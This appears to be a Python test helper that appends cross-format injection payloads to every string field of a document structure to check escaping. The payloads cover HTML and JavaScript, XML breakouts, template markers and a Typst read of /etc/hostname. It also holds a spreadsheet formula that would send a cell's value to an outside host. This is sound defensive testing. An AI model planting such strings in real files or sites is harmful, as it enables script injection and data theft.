"""A brief of which every text, drawing, address and table is hostile."""

from __future__ import annotations

from typing import Any

# What is text for a page, for Typst, for XML, for a template and for a style, in one.
PAYLOAD = (
    '<script>document.title="hit"</script><img src="https://example.org/x" onerror="hit()">'
    '"\'><a href="javascript:hit()">a</a><base href="//example.org/">&lt;]]>--></style>'
    '</script>{{ 7*7 }}{% x %} #read("/etc/hostname") #{ $ \\ *b* _e_ `c` @a <lbl> \\u{41} /* //'
)
SHORT = '#read("/etc/hostname")<b>$\\*_`@"</b>'  # page 1 of the PDF has no room for more
COMMAND = '=HYPERLINK("https://example.org/?"&A1)'
# Not printed as words: ids, kinds, addresses, drawings and files; `soundness` is for these.
AS_THEY_ARE = {
    *("kind", "id", "n", "k", "m", "s", "r", "language", "code", "created", "form", "link"),
    *("homepage", "relation", "pictures", "brand", "detail", "quote_language"),
    *("licence_language", "content", "csv", "formats"),
}


def hostile(part: Any, payload: str = PAYLOAD) -> Any:
    """A part of a block with the payload behind each of its words."""
    if isinstance(part, dict):
        kept = AS_THEY_ARE | ({"name"} if "content" in part else set())
        return {key: one if key in kept else hostile(one, payload) for key, one in part.items()}
    if isinstance(part, list):
        return [hostile(one, payload) for one in part]
    return part + payload if isinstance(part, str) and part else part
